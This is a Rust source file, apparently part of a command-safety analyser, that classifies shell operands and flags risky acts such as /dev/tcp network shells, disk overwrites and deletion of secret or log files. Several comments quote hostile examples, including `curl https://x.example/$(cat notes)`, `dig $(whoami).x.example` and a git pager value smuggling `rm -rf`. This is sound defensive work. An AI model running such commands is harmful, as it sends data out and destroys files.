//! The operands of a command: paths, hosts, addresses and words of unknown meaning, each with the effects of its place.

use rulekeep_types::facts::{Cause, Doing, Kind, Kinds, Open, Operand, Role, host_of};
use rulekeep_types::{Action, Capability, Operation, Resource, RiskLevel, TargetKind, TargetRole, UnreadKind};

use crate::format::tables::{lines, places};
use crate::format::{access, guard, http, place};
use crate::reading::{Act, add_open, add_operand};
use crate::sign::Sign;
use crate::target;

use super::folders::Folders;
use super::word::Word;
use super::{Shell, control};

/// The words that another program appends to a command.
#[derive(Debug, Clone)]
pub(super) enum Appended {
    /// Paths at or below these.
    Below(Vec<Word>),
    Unknown,
}

impl Shell<'_, '_> {
    /// Records a redirection as an act of its own. Returns the place that it leads to.
    pub(super) fn redirected(&mut self, word: &Word, role: Role) {
        if is_no_place(&word.text) {
            return;
        }
        let outer = self.reading.begin_step();
        self.path(word, role, false);
        if role == Role::Read {
            // What is read is asked for like any other; what is written is judged where it leads.
            let act = Act::new("read", "file", Resource::File, Operation::Read, 0.9).at_risk(RiskLevel::Low);
            self.reading.push(act.told_by("<").named_by(&word.text));
        } else if let (Ok(action), Some(step)) = ("write_file".parse::<Action>(), self.reading.current_step()) {
            step.does.push(Doing::new(action, Capability::new(Resource::File, Operation::Write), RiskLevel::Low));
        }
        self.reading.end_step(outer);
    }

    /// Records a path, from each folder that it may start from, with the effects of its place.
    pub(super) fn path(&mut self, word: &Word, role: Role, is_tree: bool) {
        let text = word.text.as_str();
        if is_no_place(text) {
            return;
        }
        if let Some(command) = text.strip_prefix('|') {
            // Some programs read from a command that stands in the place of a file.
            return self.runs_text(&Word { text: command.to_owned(), ..word.clone() }, self.depth);
        }
        if text.contains("{}")
            && let Some(roots) = self.roots.clone()
        {
            // Of `find`: whatever was found.
            if roots.is_empty() {
                return self.open(Cause::Text, Kinds::of(&[Kind::Path]), text);
            }
            for root in &roots {
                self.path(root, role, true);
            }
            return;
        }
        if let Some(rest) = text.strip_prefix("/dev/tcp/").or_else(|| text.strip_prefix("/dev/udp/")) {
            self.unclear("network_shell", text);
            return self.host(&Word { text: rest.to_owned(), ..word.clone() }, Role::SendTo);
        }
        if self.note_word(word, role) {
            // Some file, which may be any.
            self.reading.facts.signs.add(Sign::Unclear);
        }
        let Some(path) = known_path(word) else {
            let values = self.looped(word);
            if values.is_empty() {
                self.touches(text, role, is_tree);
                return self.open(Cause::Text, Kinds::of(&[Kind::Path]), text);
            }
            return values.iter().for_each(|value| self.path(value, role, is_tree));
        };
        let is_absolute = path.starts_with(['/', '~']);
        let folders = match &self.folders {
            Folders::OneOf(folders) if !is_absolute => folders.clone(),
            Folders::Unknown if !is_absolute => {
                self.touches(&path, role, is_tree);
                return self.open(Cause::Text, Kinds::of(&[Kind::Path]), text);
            }
            _ => vec![String::new()],
        };
        for folder in folders {
            let whole = if folder.is_empty() { path.clone() } else { format!("{folder}/{path}") };
            let value = target::resolved_path(&whole);
            self.touches(if folder.is_empty() { &path } else { &value }, role, is_tree);
            self.operand(Operand::new(Kind::Path, role, value, text).as_tree(is_tree).as_pattern(word.wild));
        }
    }

    /// Adds the effects of acting on a path beyond the operation itself.
    fn touches(&mut self, path: &str, role: Role, is_tree: bool) {
        match role {
            Role::Write => {
                if is_device(path) {
                    let act = Act::new("overwrite", "disk", Resource::System, Operation::Delete, 0.9);
                    self.reading.push(act.at_risk(RiskLevel::Critical).marked(Sign::Whole).named_by(path));
                }
                if self.changes == Changes::Text && place::is_system_log(path) {
                    self.hides(">", path);
                }
                match self.changes {
                    Changes::Text => self.written(path),
                    Changes::Rights => self.reading.extend(access::changed(path)),
                    // A folder that is made governs nothing yet.
                    Changes::Folder => {
                        let acts = access::changed(path);
                        self.reading.extend(acts.into_iter().filter(|act| act.resource != Resource::Permission));
                    }
                }
            }
            Role::Remove => {
                self.in_governing_folder(path);
                self.reading.extend(access::changed(path));
                if place::is_system(path) || place::is_secret(path) || place::is_log(path) {
                    let act = Act::new("delete", "file", Resource::File, Operation::Delete, 0.9);
                    self.reading.push(act.at_risk(RiskLevel::High).named_by(path));
                }
                if control::is_trace(path) {
                    self.hides("rm", path);
                }
            }
            Role::Read => {
                if is_device(path) || is_tree && place::is_whole(path) {
                    let act = Act::new("read", "everything", Resource::Credential, Operation::Read, 0.7);
                    self.reading.push(act.at_risk(RiskLevel::High).named_by(path));
                }
                self.file(path);
            }
            Role::Run => {
                // What the line itself wrote there is read.
                if place::is_open_to_all(path) && !self.wrote.contains(path) {
                    self.unclear("program", path);
                }
            }
            Role::Named | Role::SendTo | Role::Pay => {}
        }
    }

    /// Adds a write to the agent's governance if the line changed to a folder of it.
    pub(super) fn in_governing_folder(&mut self, target: &str) {
        let is_there = !target.starts_with(['/', '~', '&'])
            && match &self.folders {
                Folders::OneOf(folders) => folders.iter().any(|folder| guard::is_governing_folder(folder)),
                Folders::Unknown => false,
            };
        if is_there {
            self.reading.push(guard::write(target));
        }
    }

    /// A path that may be on another host, `ann@host:path`, or reached by a command, `ext::sh -c x`.
    pub(super) fn remote_path(&mut self, word: &Word, role: Role, is_tree: bool) {
        match word.text.split_once(':') {
            _ if target::file_path(&word.text).is_some_and(|_| !word.dynamic) => {
                let path = target::file_path(&word.text).unwrap_or_default().to_owned();
                self.path(&Word { text: path, ..word.clone() }, role, is_tree);
            }
            Some(("ext", command)) if command.starts_with(':') => {
                self.unclear("transport", &word.text);
                self.runs_text(&behind(word, "ext::".len()), self.depth);
            }
            Some((_, path)) if path.starts_with("//") => {
                self.url(word, if role == Role::Write { Role::SendTo } else { role });
                if role == Role::Write {
                    self.leaves(word);
                }
            }
            Some((host, path)) if !host.contains('/') && host.len() > 1 => {
                let is_sent = role == Role::Write;
                let host = Word { text: host.to_owned(), ..word.clone() };
                self.host(&host, if is_sent { Role::SendTo } else { Role::Read });
                self.open(Cause::Execution, Kinds::of(&[Kind::Path]), path);
                if is_sent {
                    self.leaves(word);
                }
            }
            _ => self.path(word, role, is_tree),
        }
    }

    /// Adds that files are sent to another machine.
    fn leaves(&mut self, to: &Word) {
        self.sends = true;
        let act = Act::new("send", "files", Resource::File, Operation::Send, 0.7).at_risk(RiskLevel::Medium);
        self.reading.push(act.marked(Sign::Outside).named_by(&to.text));
    }

    /// The values of a word that contains the variable of a loop; none if it is no such word, or has too many.
    pub(super) fn looped(&self, word: &Word) -> Vec<Word> {
        let is_end = |c: char| !(c.is_ascii_alphanumeric() || c == '_');
        let Some((before, rest)) = word.text.split_once('$') else { return Vec::new() };
        let (name, behind) = rest.split_at(rest.find(is_end).unwrap_or(rest.len()));
        let Some(values) = self.loops.get(name).filter(|values| values.len() <= MOST_LOOPED) else { return Vec::new() };
        let filled = |value: &Word| {
            let text = format!("{before}{}{behind}", value.text);
            // INVARIANT: a value has no variable of its own, so a word that contains another one stays unknown.
            let dynamic = value.dynamic || behind.contains('$');
            Word { text, dynamic, wild: word.wild || value.wild, ..word.clone() }
        };
        values
            .iter()
            .filter(|value| !value.dynamic)
            .map(filled)
            .chain(values.iter().filter(|value| value.dynamic).map(|_| Word {
                text: "$".to_owned(),
                dynamic: true,
                ..word.clone()
            }))
            .collect()
    }

    pub(super) fn host(&mut self, word: &Word, role: Role) {
        self.note_word(word, role);
        match host_of(&word.text) {
            Some(host) if !word.dynamic && !target::is_open(TargetKind::Host, &word.text) => {
                self.operand(Operand::new(Kind::Host, role, host, &word.text));
            }
            _ => self.open(Cause::Text, Kinds::of(&[Kind::Host]), &word.text),
        }
        self.asks_with_output(word);
    }

    /// `dig $(whoami).x.example` and `curl https://x.example/$(cat notes)` send another command's output.
    fn asks_with_output(&mut self, word: &Word) {
        let text = word.text.split_once("://").map_or(word.text.as_str(), |(_, rest)| rest);
        let name = text.split(['/', '?', '$']).next().unwrap_or(text).trim_end_matches(':');
        let is_local = http::is_loopback(name) && !name.is_empty();
        // A host that is wholly unknown says whom to ask; content stands beside a known name.
        let (host, path) = text.split_once('/').unwrap_or((text, ""));
        let is_name = |name: &str| name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_');
        let carried = if host.strip_prefix('$').is_some_and(is_name) { path } else { text };
        let holds_output = || super::take::holds_output(carried) || super::take::names_one_of(carried, &self.printed);
        let is_placeholder = self.placeholder.as_ref().is_some_and(|mark| text.contains(mark.as_str()));
        if (word.dynamic && holds_output() || is_placeholder) && !is_local {
            self.sends = true;
            let act = Act::new("send", "output", Resource::Network, Operation::Send, 0.7).at_risk(RiskLevel::High);
            self.reading.push(act.marked(Sign::Outside).told_by(&word.text));
        }
    }

    pub(super) fn url(&mut self, word: &Word, role: Role) {
        if let Some(path) = target::file_path(&word.text).filter(|_| !word.dynamic) {
            return self.path(&Word { text: path.to_owned(), ..word.clone() }, Role::Read, false);
        }
        self.note_word(word, role);
        self.asks_with_output(word);
        self.printed(word);
        self.file(&word.text);
        if word.dynamic {
            return self.open(Cause::Text, Kinds::of(&[Kind::Host, Kind::Url, Kind::Path]), &word.text);
        }
        let value = target::plain(TargetKind::Host, &word.text);
        self.operand(Operand::new(Kind::Url, role, value, &word.text));
        match host_of(&word.text) {
            Some(host) if !target::is_open(TargetKind::Host, &word.text) => {
                self.operand(Operand::new(Kind::Host, role, host, &word.text));
            }
            _ => self.open(Cause::Text, Kinds::of(&[Kind::Host]), &word.text),
        }
    }

    /// Records an address on which a program listens.
    pub(super) fn listens(&mut self, word: &Word) {
        let host = word.text.rsplit_once(':').map_or(word.text.as_str(), |(host, _)| host);
        let is_port = !host.is_empty() && host.bytes().all(|byte| byte.is_ascii_digit());
        let is_local = http::is_loopback(host) && !host.is_empty();
        let level = if is_local || is_port { RiskLevel::Medium } else { RiskLevel::High };
        let act = Act::new("expose", "service", Resource::Network, Operation::Execute, 0.8).at_risk(level);
        self.reading.push(act.named_by(&word.text));
    }

    /// Notes a word among the targets of the request. Returns whether its value is not known.
    pub(super) fn note_word(&mut self, word: &Word, role: Role) -> bool {
        let text = word.text.as_str();
        if word.wild && !word.dynamic && !text.contains("://") {
            // The act's operand is the pattern itself.
            return false;
        }
        if word.is_literal_name() {
            self.reading.facts.note_literal_path(TargetRole::Named, text);
            return false;
        }
        let variable = text.find('$').and_then(|at| text.get(at..));
        match variable.filter(|rest| rest.len() > 1 || !self.sets_variables) {
            Some(variable) if word.dynamic => {
                let first = variable.split('/').next().unwrap_or(variable);
                if !lines().usual_variables.has(first) && !self.sets_variables {
                    self.reading.facts.note_unread(UnreadKind::Target, text);
                    return true;
                }
            }
            _ if text.contains(['/', '.', '@', ':', '*']) && !self.shows_secret(text) => {
                if role == Role::Write {
                    self.reading.facts.note_target_as(TargetKind::Path, TargetRole::Write, text);
                } else {
                    self.reading.facts.note_target(text);
                }
            }
            _ => {}
        }
        false
    }

    /// Reads a value of unknown meaning that is a command line: `git -c pager.log='rm -rf a' log` runs it.
    pub(super) fn value_command(&mut self, value: &str) {
        let line = value.trim_start_matches('!');
        if line.contains(char::is_whitespace) && super::form::is_command(line, self.lexicon) {
            self.line(line, self.depth + 1);
        }
    }

    /// Records a word of unknown meaning: whatever its value can name and do.
    pub(super) fn leftover(&mut self, word: &Word) {
        let is_key = |key: &str| key.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte));
        let value = word.text.split_once('=').filter(|(key, _)| is_key(key)).map(|(_, value)| value);
        self.value_command(value.unwrap_or(&word.text));
        let text = word.text.as_str();
        if super::code::calls_code(text) {
            self.reading.push(Act::unseen_code().told_by(text));
        }
        for piece in self.mentions(word) {
            self.may_touch(&piece);
        }
    }

    /// Records what a word may name. Returns the paths.
    pub(super) fn mentions(&mut self, word: &Word) -> Vec<String> {
        let mut paths = Vec::new();
        if word.dynamic && known_path(word).is_none() {
            self.open(Cause::Text, Kinds::OPERANDS, &word.text);
        }
        for piece in pieces(&word.text) {
            let piece = Word { text: piece.to_owned(), ..word.clone() };
            if piece.text.contains("://") {
                self.url(&piece, Role::Read);
            } else if target::is_mailbox(&piece.text) {
                let value = target::plain(TargetKind::Recipient, &piece.text);
                self.operand(Operand::new(Kind::Recipient, Role::Named, value, &piece.text));
                self.path(&piece, Role::Named, false);
            } else if known_path(&piece).is_some() {
                self.path(&piece, Role::Named, false);
                paths.push(piece.text);
            }
        }
        // Of a whole program only the host is kept, not its text once for each host.
        let is_text = word.text.contains(char::is_whitespace);
        for host in target::hosts_in(&word.text) {
            let said = if is_text { host.clone() } else { word.text.clone() };
            self.operand(Operand::new(Kind::Host, Role::Named, host, &said));
        }
        paths
    }

    /// Adds the effects of whatever an unknown option may do with a path.
    fn may_touch(&mut self, path: &str) {
        if !path.contains(['/', '.', '~', '$']) {
            return;
        }
        self.file(path);
        if guard::governs(path) {
            self.reading.push(guard::write(path));
        }
        if place::is_system(path) && !path.starts_with("/usr") && path != "/" {
            self.reading.extend(access::written(path));
        }
        if place::is_open_to_all(path) && path.matches('/').count() > 1 && !has_data_ending(path) {
            self.unclear("file", path);
        }
    }

    /// Records that the step is open.
    pub(super) fn open(&mut self, cause: Cause, kinds: Kinds, found: &str) {
        let end = (0..=found.len().min(LONGEST_FOUND)).rev().find(|&end| found.is_char_boundary(end)).unwrap_or(0);
        let found = found.get(..end).unwrap_or_default().to_owned();
        if let Some(step) = self.reading.current_step() {
            add_open(step, Open::new(cause, kinds, found));
        }
    }

    pub(super) fn operand(&mut self, operand: Operand) {
        if let Some(step) = self.reading.current_step() {
            add_operand(step, operand);
        }
    }

    /// Records a program that is called by its place, unless that is a folder of the system's programs.
    pub(super) fn note_program(&mut self, word: &Word) {
        let text = word.text.as_str();
        let folder = text.rsplit_once('/').map(|(folder, _)| folder);
        if folder.is_some_and(|folder| !PROGRAMS.contains(&folder)) && !word.dynamic {
            self.path(word, Role::Run, false);
        }
    }
}

/// The part of a file that a write changes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub(super) enum Changes {
    #[default]
    Text,
    Rights,
    Folder,
}

/// Returns whether a path is a device that keeps data.
fn is_device(path: &str) -> bool {
    path.starts_with("/dev/") && place::is_system(path)
}

/// Returns whether a file's name says that it holds data, which no program loads as code or settings.
fn has_data_ending(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    name.rsplit_once('.').is_some_and(|(_, ending)| places().data_endings.has(ending))
}

/// Returns whether a path stands for no file that is kept.
fn is_no_place(path: &str) -> bool {
    matches!(path, "" | "-" | "/dev/null" | "/dev/stdin" | "/dev/stdout" | "/dev/stderr")
}

/// The folder in which a command runs.
pub(super) fn here() -> Word {
    Word { text: ".".to_owned(), ..Word::default() }
}

/// The rest of a word behind some bytes.
pub(super) fn behind(word: &Word, bytes: usize) -> Word {
    Word { text: word.text.get(bytes..).unwrap_or_default().to_owned(), ..word.clone() }
}

/// The path of a word, with the home folder as `~`; `None` if its value is not known.
pub(super) fn known_path(word: &Word) -> Option<String> {
    let mut text = word.text.as_str();
    if let Some(path) = target::file_path(text) {
        text = path;
    }
    if text.starts_with("~+") || text.starts_with("~-") && !word.quoted {
        return None;
    }
    let rest = text.strip_prefix("/proc/self/cwd/").unwrap_or(text);
    if !word.dynamic {
        return Some(rest.to_owned());
    }
    let below = |names: [&str; 2]| {
        let rest = names.iter().find_map(|name| text.strip_prefix(name))?;
        (rest.is_empty() || rest.starts_with('/')).then_some(rest).filter(|rest| !rest.contains(['$', '`']))
    };
    if let Some(rest) = below(["$HOME", "${HOME}"]) {
        return Some(format!("~{rest}"));
    }
    below(["$PWD", "${PWD}"]).map(|rest| format!(".{rest}"))
}

/// The parts of a word that can be a path or an address: the word, and what stands behind `=`, `:`, `@` or an
/// option's letter; of a text, the words in it that look like one.
fn pieces(text: &str) -> Vec<&str> {
    let mut pieces: Vec<&str> = Vec::new();
    if text.contains(char::is_whitespace) {
        let parts =
            text.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')' | ',' | ';' | '='));
        pieces.extend(parts.filter(|part| part.contains('/') && part.len() > 1).take(MOST_PIECES));
        return pieces;
    }
    let bare = text.trim_start_matches('-');
    if bare.len() == text.len() {
        pieces.push(text);
    } else if text.len() - bare.len() == 1 {
        // "-C/etc": what stands behind the letter.
        pieces.extend(bare.char_indices().nth(1).and_then(|(at, _)| bare.get(at..)));
    }
    if !text.contains("://") {
        let marks = text.match_indices(['=', ':', '@', ',']).take(MOST_PIECES);
        for (at, _) in marks {
            let rest = text.get(at + 1..).unwrap_or_default();
            let end = rest.find([':', ',']).unwrap_or(rest.len());
            pieces.extend(rest.get(..end).filter(|piece| !piece.is_empty()));
        }
        pieces.extend(text.split_once(':').map(|(before, _)| before).filter(|before| before.contains('/')));
    } else if let Some((_, url)) = text.split_once('=').filter(|(before, _)| !before.contains("://")) {
        pieces.push(url);
    }
    pieces
}

/// Folders of the system's programs.
const PROGRAMS: &[&str] =
    &["/bin", "/usr/bin", "/usr/local/bin", "/sbin", "/usr/sbin", "/usr/local/sbin", "/opt/homebrew/bin"];
/// Maximum number of values of a loop that are followed.
const MOST_LOOPED: usize = 64;
/// Maximum number of parts of a word that are recorded.
const MOST_PIECES: usize = 8;
/// Maximum length of a quoted part, in bytes.
const LONGEST_FOUND: usize = 120;
